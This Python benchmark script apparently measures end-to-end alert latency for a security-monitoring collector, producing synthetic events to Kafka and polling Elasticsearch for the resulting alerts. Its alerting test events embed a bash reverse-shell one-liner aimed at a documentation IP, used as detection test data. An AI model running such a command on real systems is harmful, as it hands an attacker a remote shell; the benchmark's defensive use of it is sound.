"""End to end: an event produced to Kafka → its alert searchable in Elasticsearch, at a steady rate.

One real collector process (the project's rules) on the local test stack; events are produced at
``RATE`` per second for ``SECONDS``, one in ``ALERT_EVERY`` of them a reverse-shell command line that the
rules must alert on. A poller searches the alerts index every 100 ms; an alert's latency is the time from
its event's send to the first search that returns it. Figures: e2e_latency_p50_s, e2e_latency_p99_s,
e2e_events_per_s (the rate actually produced), e2e_alerts_found / e2e_alerts_expected.

The clock starts once the collector is serving: one warm-up event's alert must be searchable first
(e2e_warmup_s: the collector's start, group join and first alert index). A fixed sleep instead let a
start slowed by a loaded machine count as seconds of latency for every event queued meanwhile.

Then ``WARMUP_SECONDS`` (60) at ``RATE`` are produced and their alerts awaited before the measured run:
the figures are the steady state of a running SOC, not of Kafka and Elasticsearch JVMs started a minute
before. On a freshly started stack (2026-11-23, one run each) the collector fell behind at 2,000 events/s
for the first minute or so: without this warm-up p50 6.0 s; after 15 s at rate p50 5.8 s during them and
6.3 s after; after 60 s at rate p50 17 s during them and 0.8 s after; the same stack, warm, 0.58 s after
15 s. The warm-up phase's own latencies are printed and kept as e2e_warmup_latency_p50_s /
e2e_warmup_latency_p99_s, so what a cold stack does stays visible.
"""

from __future__ import annotations

import asyncio
import json
import os
import statistics
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

from aiokafka import AIOKafkaProducer

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from benchmarks.agent_process import stack_connection  # noqa: E402
from tests.integration.collector_harness import CollectorRun  # noqa: E402
from tests.support.es import EsAccess  # noqa: E402
from tests.support.events import encoded, process_exec  # noqa: E402
from tests.support.kafka import KafkaAccess  # noqa: E402

RATE = int(os.environ.get("CANHGAC_BENCH_E2E_RATE", "2000"))
SECONDS = int(os.environ.get("CANHGAC_BENCH_E2E_SECONDS", "20"))
WARMUP_SECONDS = int(os.environ.get("CANHGAC_BENCH_E2E_WARMUP_SECONDS", "60"))
ALERT_EVERY = 100


def alerting_event(n: int) -> dict[str, Any]:
    return process_exec("/bin/bash", f"bash -c 'sh -i >& /dev/tcp/192.0.2.{n % 250}/4444 0>&1' #{n}")


async def warm_up(run: CollectorRun, timeout_s: float = 180.0) -> float:
    """Seconds until one alerting event, produced once the collector runs, has its alert searchable."""
    started = time.monotonic()
    producer = AIOKafkaProducer(**run.kafka.client_kwargs(), acks="all", enable_idempotence=True)
    await producer.start()
    try:
        event = alerting_event(-1)
        await producer.send_and_wait(run.events_topic, value=encoded(event), key=event["host"]["id"].encode())
    finally:
        await producer.stop()
    sent = {event["event"]["id"]: started}
    seen: dict[str, float] = {}
    done = asyncio.Event()
    done.set()  # the poller returns once it has seen the warm-up alert
    await asyncio.wait_for(poll(run, sent, seen, done), timeout=timeout_s)
    return time.monotonic() - started


async def produce(run: CollectorRun, sent: dict[str, float], seconds: int, first: int) -> float:
    """Events ``first``... at ``RATE`` for ``seconds``; the alerting ones' send times go to ``sent``."""
    producer = AIOKafkaProducer(**run.kafka.client_kwargs(), acks="all", enable_idempotence=True, linger_ms=2)
    await producer.start()
    started = time.monotonic()
    total = RATE * seconds
    try:
        for n in range(first, first + total):
            if n % ALERT_EVERY == 0:
                event = alerting_event(n)
            else:
                event = process_exec("/usr/bin/php-fpm", f"php-fpm: pool www #{n}")
            value = encoded(event)
            await producer.send(run.events_topic, value=value, key=event["host"]["id"].encode())
            if n % ALERT_EVERY == 0:
                sent[event["event"]["id"]] = time.monotonic()
            ahead = started + (n - first + 1) / RATE - time.monotonic()
            if ahead > 0:
                await asyncio.sleep(ahead)
        await producer.flush()
    finally:
        await producer.stop()
    return total / (time.monotonic() - started)


async def poll(
    run: CollectorRun, sent: dict[str, float], seen: dict[str, float], done: asyncio.Event
) -> None:
    from elasticsearch import ApiError
    from elasticsearch import ConnectionError as EsConnectionError

    async with run.es.client() as client:
        while not done.is_set() or len(seen) < len(sent):
            pending = [event_id for event_id in sent if event_id not in seen]
            if pending:
                try:
                    response = await client.search(
                        index=f"{run.prefix}alerts-*",
                        query={"terms": {"canhgac.alert.event_ids": pending[:1000]}},
                        size=1000,
                        source_includes=["canhgac.alert.event_ids"],
                        allow_no_indices=True,
                        ignore_unavailable=True,
                    )
                except (ApiError, EsConnectionError):  # a new index's shard is not searchable yet
                    await asyncio.sleep(0.1)
                    continue
                now = time.monotonic()
                for hit in response["hits"]["hits"]:
                    for event_id in hit["_source"]["canhgac"]["alert"]["event_ids"]:
                        seen.setdefault(event_id, now)
            await asyncio.sleep(0.1)


async def phase(run: CollectorRun, seconds: int, first: int) -> tuple[float, list[float], int]:
    """Produce at ``RATE`` for ``seconds`` and await the alerts: the rate produced, the latencies in
    send order, and how many alerts were expected."""
    sent: dict[str, float] = {}
    seen: dict[str, float] = {}
    done = asyncio.Event()
    poller = asyncio.create_task(poll(run, sent, seen, done))
    rate = await produce(run, sent, seconds, first)
    done.set()
    try:
        await asyncio.wait_for(poller, timeout=60)
    except TimeoutError:
        print("  some alerts never became searchable within 60 s after the last send")
    return rate, [seen[event_id] - sent[event_id] for event_id in sent if event_id in seen], len(sent)


def percentiles(latencies: list[float]) -> tuple[float, float]:
    ordered = sorted(latencies)
    return (
        round(statistics.median(ordered), 3),
        round(ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))], 3),
    )


async def measure(results: dict[str, float]) -> None:
    connection = stack_connection()
    with tempfile.TemporaryDirectory() as workdir:
        run = CollectorRun(
            KafkaAccess.from_connection(connection),
            EsAccess.from_stack(connection),
            REPO / "rules" / "sigma",
            Path(workdir),
        )
        await run.create_topics(partitions=6)
        run.start_collector()
        try:
            warmup = await warm_up(run)
            print(f"  collector serving after {warmup:.1f} s (warm-up alert searchable)")
            if WARMUP_SECONDS > 0:
                _, warming, _ = await phase(run, WARMUP_SECONDS, first=-RATE * WARMUP_SECONDS)
                if warming:
                    cold_p50, cold_p99 = percentiles(warming)
                    results["e2e_warmup_latency_p50_s"] = cold_p50
                    results["e2e_warmup_latency_p99_s"] = cold_p99
                    print(f"  warm-up at rate: latency p50 {cold_p50} s, p99 {cold_p99} s")
            rate, in_send_order, expected = await phase(run, SECONDS, first=0)
        finally:
            run.stop_all()
            stage_lines = [
                line for line in run.logs().splitlines() if "Pipeline: " in line and "Counters(" in line
            ]
            for line in stage_lines[-2:]:
                print("  collector", line.split(" INFO ", 1)[-1][:600])
    results["e2e_warmup_s"] = round(warmup, 1)
    results["e2e_events_per_s"] = round(rate, 1)
    results["e2e_alerts_expected"] = float(expected)
    results["e2e_alerts_found"] = float(len(in_send_order))
    if in_send_order:
        results["e2e_latency_p50_s"], results["e2e_latency_p99_s"] = percentiles(in_send_order)
    print(f"  produced {rate:.0f} events/s; alerts {len(in_send_order)}/{expected}")
    print(f"  latency p50 {results.get('e2e_latency_p50_s')} s, p99 {results.get('e2e_latency_p99_s')} s")
    if in_send_order:  # a slow start or a stall shows as a run of high latencies in one tenth of the run
        tenths = [
            in_send_order[i * len(in_send_order) // 10 : (i + 1) * len(in_send_order) // 10]
            for i in range(10)
        ]
        print("  worst latency per tenth of the run, s:", " ".join(f"{max(t):.2f}" for t in tenths if t))


def run(results: dict[str, float]) -> None:
    asyncio.run(measure(results))


if __name__ == "__main__":
    figures: dict[str, float] = {}
    run(figures)
    print(json.dumps(figures, indent=2))
